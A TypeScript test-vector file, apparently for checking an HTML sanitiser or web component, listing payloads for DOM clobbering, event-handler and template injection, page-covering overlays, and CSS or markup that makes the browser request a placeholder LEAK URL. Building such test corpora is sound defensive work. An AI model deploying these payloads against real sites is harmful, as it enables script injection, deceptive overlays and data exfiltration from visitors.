import type {Writer} from './vectors.js';
import {lines} from './writers.js';

const CLOBBERED =
  'URL addEventListener adoptedStyleSheets all appendChild attributes baseURI body characterSet childNodes children config constructor content cookie createElement createTreeWalker currentScript customElements defaultView document documentElement domain elements firstChild fetch forms getElementById getRootNode hasAttribute head hit history href id images innerHTML length localName location matches name namespaceURI nodeName nodeType nodeValue origin ownerDocument parent parentElement parentNode querySelectorAll remove removeAttribute scripts self setAttribute shadowRoot style tagName textContent top toString trustedTypes valueOf window __proto__ hasOwnProperty litElementVersions';

/** Names by which content would replace a property of the page, of its form or of a prototype. */
export const NAMES: readonly Writer[] = [
  ...CLOBBERED.split(' ').map(
    (name, i): Writer =>
      (run, leak) =>
        [
          `<form id=${name} onclick=${run}><input name=${name}><button name=${name}>x</button></form>`,
          `<a id=${name} name=${name} href="${leak}">x</a><a id=${name}>y</a>`,
          `<img name=${name} src=x onerror=${run}><p id=${name} class=${name} slot=${name} part=${name}>x</p>`,
        ][i % 3] ?? '',
  ),
  ...lines(String.raw`
    <form><input name=attributes><input name=attributes onclick=RUN>x</form>
    <form onmouseover=RUN><input name=parentNode>x</form>
    <form id=x><output name=y>z</output></form><form id=x><input name=y></form>
    <object name=cookie data=x onerror=RUN></object>
    <embed name=getElementById src=LEAK>
    <iframe name=parent srcdoc="<a id=hit href=x>"></iframe>
    <a id=question-0 href=/x>x</a><p id=answer-0>y</p>
    <p id=faq-when>x</p><a href=#faq-when>y</a>
    <p id=x>y</p><label for=x onclick=RUN>z</label>
    <p aria-labelledby=x aria-owns=y role=alert>x</p>
    <p class="content table toolbar base" part="base heading question">x</p>
    <slot name=before onslotchange=RUN>x</slot>
    <div slot=error>x</div>
    <p is=page-spy-paragraph>x</p>
    <page-spy>x</page-spy>
    <page-spy data="RUN" src=LEAK></page-spy>
    <PAGE-SPY onclick=RUN>x</PAGE-SPY>
    <svg><page-spy>x</page-spy></svg>
    <math><mtext><page-spy>x</page-spy></mtext></math>
    <template><page-spy>x</page-spy></template>
    <welearn-faq src=LEAK>x</welearn-faq>
    <welearn-faq data='[{"q":"x","a":"<img src=x onerror=RUN>"}]'></welearn-faq>
    <welearn-about src=LEAK stylesheet=LEAK>x</welearn-about>
    <welearn-about><script type=text/markdown>[x](javascript:RUN)</script></welearn-about>
    <x-not-yet-defined onclick=RUN>x</x-not-yet-defined>
    <a-é.ß onclick=RUN>x</a-é.ß>
    <annotation-xml onclick=RUN>x</annotation-xml>
    <font-face src=LEAK>x</font-face>
    <p data-controller=x data-action="click->x" data-bs-toggle=modal data-turbo-method=delete>x</p>
    <p x-data="RUN" x-init="RUN" v-on:click="RUN" @click="RUN" ng-init="RUN" hx-get=LEAK hx-trigger=load>x</p>
    <p data-ng-app ng-csp><i ng-include="'LEAK'"></i>{{RUN}}</p>
    <p data-wp-on--click=RUN data-wp-init=RUN>x</p>
    <a data-method=delete data-remote=true data-confirm=x href=LEAK>x</a>
    <p itemprop=x content=LEAK typeof=x property=y resource=LEAK>x</p>
  `),
];

/** Each level indents its text further, so that enough levels push it beside the element. */
const NESTED: readonly Writer[] = [
  '> ',
  '- ',
  '1. ',
  '<ul><li>',
  '<blockquote>',
  '<dl><dd>',
  '<figure>',
  '<div dir=rtl><ul dir=ltr>',
  '<pre><div>',
  '<kbd>',
  '<code>',
  '<mark>',
  '<q>',
  '<ruby><rt>',
  '<details open><summary>x</summary><ul>',
  '<table><tr><td>',
  '<sup>',
].map(
  (start): Writer =>
    () =>
      `${start.repeat(60)}x`,
);

/** Content that would cover the page, imitate it, or trap the visitor. */
export const OVERLAYS: readonly Writer[] = [
  ...NESTED,
  ...lines(String.raw`
  <p style="position:fixed;inset:0;z-index:2147483647;background:white">x</p>
  <p style="position:absolute;top:-999px">x</p>
  <p style="position:sticky;top:0">x</p>
  <p style="margin:-999px;float:left;transform:scale(99)">x</p>
  <p style="font-size:9999px;line-height:0;letter-spacing:-9px">x</p>
  <a style="position:fixed;inset:0" href=https://x.example>x</a>
  <img style="position:fixed;width:100vw;height:100vh" src=x onclick=RUN>
  <table style="position:fixed;inset:0"><tr><td>x</table>
  <div style="all:initial;display:contents;content-visibility:auto">x</div>
  <div style="animation:x 1s;view-transition-name:root;anchor-name:--x">x</div>
  <div style="pointer-events:none;opacity:0;clip-path:inset(0);mask:url(LEAK)">x</div>
  <div style=position:fixed;inset:0>x</div>
  <div STYLE="POSITION:FIXED">x</div>
  <div style="pos\69tion:fixed">x</div>
  <div style="position/**/:fixed">x</div>
  <style>:host{position:fixed;inset:0;z-index:9}</style>
  <style>*{position:fixed}</style>
  <style>@layer welearn{.content{position:fixed}}</style>
  <dialog open style="position:fixed">x</dialog>
  <dialog open>x</dialog>
  <div popover=manual>x</div>
  <div class="modal fade show d-block fixed-top position-fixed">x</div>
  <div class="fixed inset-0 z-50 bg-white">x</div>
  <div class=alignfull id=wpadminbar>x</div>
  <center><layer left=0 top=0 width=9999>x</layer></center>
  <marquee behavior=alternate scrollamount=999 onbounce=RUN>x</marquee>
  <font size=7 color=white style="position:fixed">x</font>
  <table width=9999 height=9999 border=99 cellpadding=999 bgcolor=red align=left><tr><td nowrap>x</table>
  <img src=x width=99999 height=99999 align=left hspace=999 border=99>
  <hr size=9999 width=9999 noshade color=red>
  <pre width=9999>x</pre>
  <td width=9999 height=9999 nowrap bgcolor=red>x</td>
  <blockquote style="position:fixed" cite=LEAK>x</blockquote>
  <h1 style="position:fixed;top:0" align=right>x</h1>
  <nav style="position:fixed">x</nav>
  <main style="position:fixed;inset:0">x</main>
  <a href=https://x.example target=_top>x</a>
  <a href=https://x.example target=_parent rel=opener>x</a>
  <a href=https://x.example target=RUN rel="opener prefetch">x</a>
  <a href=https://x.example hreflang=x type=text/html charset=utf-7 rev=x>x</a>
  <a href=https://x.example accesskey=s tabindex=1 draggable=true>x</a>
  <p contenteditable spellcheck enterkeyhint=send>x</p>
  <p draggable=true ondragstart=RUN>x</p>
  <p hidden inert>x</p>
  <p tabindex=1 autofocus>x</p>
  <p role=dialog aria-modal=true aria-live=assertive>x</p>
  <p aria-hidden=true>x</p>
  <details name=welearn open><summary>x</summary>y</details>
  <body style="position:fixed" bgcolor=red text=white link=white background=LEAK>x</body>
  <html style="position:fixed">x</html>
  <hr width=99999 size=99999 align=left>
  <ol start=2147483647><li>x</ol>
  <ol start=-2147483648 reversed><li>x</ol>
  <p dir=rtl><img src=x width=99999 height=1>x</p>
  <img src=x width=1 height=99999>
`),
];

const RULES = [
  '@import "LEAK";',
  '@import url(LEAK);',
  '@font-face{font-family:x;src:url(LEAK)}*{font-family:x}',
  '*{background:url(LEAK)}',
  ':host{background:url(LEAK)}',
  '*{list-style:url(LEAK)}',
  '*{cursor:url(LEAK),auto}',
  '*{content:url(LEAK)}',
  '*{border-image:url(LEAK)}',
  '*{background:image-set("LEAK" 1x)}',
  '*{--x:url(LEAK);background:var(--x)}',
  '*{background:\\75rl(LEAK)}',
  'a[href^="h"]{background:url(LEAK)}',
  'input[value^=a]{background:url(LEAK)}',
  '@namespace url(LEAK);',
  '@keyframes x{to{background:url(LEAK)}}*{animation:x 1s}',
  '@property --x{syntax:"<url>";inherits:false;initial-value:url(LEAK)}',
  '*{background:url(javascript:RUN)}',
  '*{x:expression(RUN)}',
  '*{-moz-binding:url(LEAK#x)}',
  '*{behavior:url(LEAK)}',
];

/** Content that would make the browser request anything except an image or a link. */
export const REQUESTS: readonly Writer[] = [
  ...lines(RULES.map(rule => `<style>${rule}</style>x`).join('\n')),
  ...lines(RULES.map(rule => `<svg><style>${rule}</style></svg>x`).join('\n')),
  ...lines(
    RULES.flatMap(rule => /\{(.*?)\}/.exec(rule)?.[1] ?? [])
      .map(declaration => `<p style='${declaration}'>x</p>`)
      .join('\n'),
  ),
  ...lines(String.raw`
    <p style="background:url(LEAK)">x</p>
    <p style="background:url('LEAK')">x</p>
    <p style="background:url(&quot;LEAK&quot;)">x</p>
    <p style=background:url(LEAK)>x</p>
    <table background=LEAK><tr background=LEAK><td background=LEAK>x</table>
    <body background=LEAK>
    <table background="LEAK⏎<td background="LEAK
    <p background=LEAK src=LEAK href=LEAK poster=LEAK data=LEAK>x</p>
    <video poster=LEAK></video>
    <video src=LEAK autoplay muted></video>
    <video><source src=LEAK><track default src=LEAK></video>
    <audio preload=auto src=LEAK></audio>
    <picture><source srcset=LEAK><source srcset="LEAK 1x"></picture>
    <img srcset=LEAK>
    <img srcset="LEAK 1x, LEAK 2x" sizes=1px>
    <img lowsrc=LEAK dynsrc=LEAK longdesc=LEAK>
    <object data=LEAK></object>
    <object><param name=movie value=LEAK></object>
    <embed src=LEAK>
    <iframe src=LEAK loading=eager></iframe>
    <iframe srcdoc="<img src=LEAK>"></iframe>
    <frameset><frame src=LEAK></frameset>
    <input type=image src=LEAK>
    <link rel=stylesheet href=LEAK>
    <link rel="stylesheet alternate" href=LEAK>
    <link rel=preconnect href=LEAK>
    <link rel=prerender href=LEAK>
    <link rel=preload as=image imagesrcset=LEAK>
    <link rel=preload as=font crossorigin href=LEAK>
    <link rel=dictionary href=LEAK><link rel=compression-dictionary href=LEAK>
    <meta http-equiv=Link content="<LEAK>; rel=preload; as=image">
    <meta http-equiv=refresh content="0;LEAK">
    <meta http-equiv=Content-Security-Policy content="default-src 'none'; report-uri LEAK">
    <script src=LEAK></script>
    <script type=module>import "LEAK"</script>
    <svg><image href=LEAK /></svg>
    <svg><use href=LEAK#x /></svg>
    <svg><feImage href=LEAK /></svg>
    <svg><script href=LEAK /></svg>
    <svg><a xlink:href="?"><set attributeName=href to=LEAK /></a></svg>
    <svg><rect fill="url(LEAK#x)" filter="url(LEAK#y)" width=9 height=9 /></svg>
    <svg><foreignObject><iframe src=LEAK></iframe></foreignObject></svg>
    <svg><text style="font-family:x"><style>@font-face{font-family:x;src:url(LEAK)}</style>x</text></svg>
    <math><mglyph src=LEAK></math>
    <math><mtext><img srcset=LEAK></mtext></math>
    <html manifest=LEAK>x
    <head profile=LEAK></head>x
    <template><img src=LEAK></template>
    <div><template shadowrootmode=open><img src=LEAK></template></div>
    <noscript><img src=LEAK></noscript>
    <noframes><img src=LEAK></noframes>
    <select><option><img src=LEAK></select>
    <textarea><img src=LEAK></textarea>
    <!-- <img src=LEAK> -->x
    <p title="<img src=LEAK>">x</p>
    <button popovertarget=x><selectedcontent><img srcset=LEAK></selectedcontent></button>
    <model src=LEAK></model>
    <portal src=LEAK></portal>
    <bgsound src=LEAK>
    <a href=/x ping=LEAK>x</a>
    <dialog open><iframe src=LEAK></iframe></dialog>
  `),
];
